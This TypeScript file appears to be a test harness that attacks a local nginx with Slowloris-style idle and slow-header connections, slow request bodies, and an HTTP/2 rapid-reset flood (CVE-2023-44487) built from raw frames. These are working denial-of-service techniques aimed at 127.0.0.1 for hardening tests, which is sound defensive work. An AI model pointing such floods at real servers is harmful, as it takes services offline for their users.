import { connect } from 'node:net';
import type { TLSSocket } from 'node:tls';
import { apiPaths } from '@bharti/contracts/paths';
import { tlsFrom } from './http2-client.ts';

// A client in a process of its own that attacks nginx from 127.0.0.1 until it is killed: node attack.ts KIND PORT. It prints what it has done so
// far as JSON, twice a second.

const attacker = '127.0.0.1';
const [kind = '', portText = ''] = process.argv.slice(2);
const port = Number(portText);
const done: Record<string, number> = {};
const count = (what: string, more = 1): void => {
  done[what] = (done[what] ?? 0) + more;
};
setInterval(() => process.stdout.write(`${JSON.stringify(done)}\n`), 500);

/** Keeps `number` connections open: what is closed is opened again after a second. `index` tells their kinds apart. */
function keepOpen(number: number, open: (index: number) => { on(event: 'close', then: () => void): unknown }): void {
  const one = (index: number): void => {
    count('opened');
    open(index).on('close', () => {
      count('closed');
      setTimeout(() => one(index), 1_000);
    });
  };
  // Some at a time: a listener has room for some hundred that it has not accepted yet.
  let index = 0;
  const more = setInterval(() => {
    for (let i = 0; i < 100 && index < number; i += 1, index += 1) one(index);
    if (index >= number) clearInterval(more);
  }, 50);
}

/** Of three connections one is silent, one is silent after its TLS handshake, and one sends its headers byte by byte. */
function idle(index: number) {
  if (index % 3 === 0)
    return connect({ host: attacker, port, localAddress: attacker }).on('error', () => count('errors'));
  const socket = tlsFrom(port, attacker, 'http/1.1').on('error', () => count('errors'));
  if (index % 3 === 1) return socket;
  return slowly(socket, 'GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-slow: ');
}

/** A body of the largest size, of which a byte comes every two seconds. */
const slowBody = () => {
  const socket = tlsFrom(port, attacker, 'http/1.1').on('error', () => count('errors'));
  socket.on('data', (data: Buffer) => count(data.toString('latin1').slice(9, 12)));
  const headers = `content-type: application/json\r\ncontent-length: 120000`;
  return slowly(socket, `POST ${apiPaths.trialSignIn} HTTP/1.1\r\nhost: localhost\r\n${headers}\r\n\r\n{`);
};

function slowly(socket: TLSSocket, beginning: string): TLSSocket {
  socket.once('secureConnect', () => socket.write(beginning));
  const timer = setInterval(() => {
    if (socket.writable) socket.write(' ');
  }, 2_000);
  return socket.on('close', () => clearInterval(timer));
}

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
/** GET, https and the two given, as HPACK writes them without compression (RFC 7541, appendix A). */
const headersOf = (path: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x04]), text(path), Buffer.from([0x01]), text('localhost')]);
const cancel = Buffer.from([0, 0, 0, 8]);

/** Opens streams and resets each in the same write (CVE-2023-44487), as fast as nginx reads them; a connection that is ended is opened again. */
function rapidReset(index: number): TLSSocket {
  const socket = tlsFrom(port, attacker, 'h2').on('error', () => count('errors'));
  const headers = headersOf(index % 2 === 0 ? '/' : apiPaths.config);
  let stream = 1;
  const write = (): void => {
    if (!socket.writable) return;
    const frames: Buffer[] = [];
    for (let i = 0; i < 100; i += 1, stream += 2) {
      frames.push(frame(1, 0x05, stream, headers), frame(3, 0, stream, cancel));
    }
    count('streams', 100);
    const hasRoom = socket.write(Buffer.concat(frames));
    if (hasRoom) setImmediate(write);
    else socket.once('drain', write);
  };
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
    write();
  });
  return socket.resume();
}

if (kind === 'idle') keepOpen(10_000, idle);
else if (kind === 'slow-bodies') keepOpen(3_000, slowBody);
else if (kind === 'rapid-reset') keepOpen(20, rapidReset);
else throw new Error(`no attack is called ${kind}`);
